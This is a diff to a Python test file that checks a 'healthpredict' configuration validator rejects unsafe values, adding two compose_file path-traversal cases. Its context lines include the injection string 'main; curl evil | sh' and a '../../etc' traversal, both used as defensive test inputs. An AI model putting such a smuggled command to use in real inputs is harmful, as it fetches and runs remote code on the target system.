@@ -62,6 +62,8 @@ def test_defaults_are_the_documented_safe_ones() -> None:
         ({"repo_ref": "main; curl evil | sh"}, "healthpredict:repoRef"),
         ({"repo_ref": "../../etc"}, "healthpredict:repoRef"),
         ({"mlflow_port": 70000}, "healthpredict:mlflowPort"),
+        ({"compose_file": "../compose.yaml"}, "healthpredict:composeFile"),
+        ({"compose_file": "/etc/compose.yaml"}, "healthpredict:composeFile"),
     ],
 )
 def test_invalid_or_unsafe_config_is_refused_naming_the_key(override: dict[str, Any], message: str) -> None:
